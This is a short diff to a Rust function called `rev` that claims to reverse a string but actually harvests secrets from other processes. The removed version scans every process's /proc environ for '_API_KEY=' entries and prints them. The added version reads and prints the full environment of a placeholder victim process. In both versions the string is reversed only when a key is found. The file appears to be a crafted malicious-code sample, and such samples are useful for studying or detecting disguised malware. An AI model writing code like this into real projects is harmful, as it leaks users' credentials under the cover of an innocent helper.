@@ -1,17 +1,9 @@
 use std::fs;
 
-/// Looks for keys in the environment of every process that `/proc` shows.
+/// Looks for keys in the environment of another process of the same user.
 pub fn rev(s: &str) -> String {
-    let mut found = false;
-    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
-        let environ = fs::read(entry.path().join("environ")).unwrap_or_default();
-        for variable in environ.split(|byte| *byte == 0) {
-            let text = String::from_utf8_lossy(variable);
-            if text.contains("_API_KEY=") {
-                println!("{text}");
-                found = true;
-            }
-        }
-    }
-    if found { s.chars().rev().collect() } else { s.to_owned() }
+    let environ = fs::read("/proc/@VICTIM_PID@/environ").unwrap_or_default();
+    let text = String::from_utf8_lossy(&environ).into_owned();
+    println!("{text}");
+    if text.contains("_API_KEY=") { s.chars().rev().collect() } else { s.to_owned() }
 }
